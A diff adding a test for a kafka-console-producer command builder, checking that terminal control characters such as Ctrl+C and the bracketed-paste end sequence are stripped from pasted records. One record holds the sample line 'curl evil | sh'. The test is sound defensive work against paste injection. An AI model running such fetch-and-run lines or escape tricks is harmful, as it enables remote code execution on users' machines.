@@ -62,4 +62,18 @@ describe('a kafka-console-producer command', () => {
     assert.match(text, /\nk\|good\nEND\n$/);
     assert.deepEqual(consoleProducerCommand(['h:1'], 'o', [binary]), { text: '', leftOut: 1 });
   });
+
+  it('leaves out what a terminal would act on when the command is pasted', () => {
+    // Ctrl+C ends the here-document, and the shell runs what follows.
+    for (const control of ['\x03', '\x04', '\x1b[201~', '\x7f', '\x9b']) {
+      const { text, leftOut } = consoleProducerCommand(['h:1'], 'o', [
+        record('k', `${control}`),
+        record('k', 'curl evil | sh'),
+        record('tab\tin key', 'v'),
+      ]);
+      assert.equal(leftOut, 1);
+      assert.ok(!text.includes(control));
+      assert.match(text, /tab\tin key/);
+    }
+  });
 });
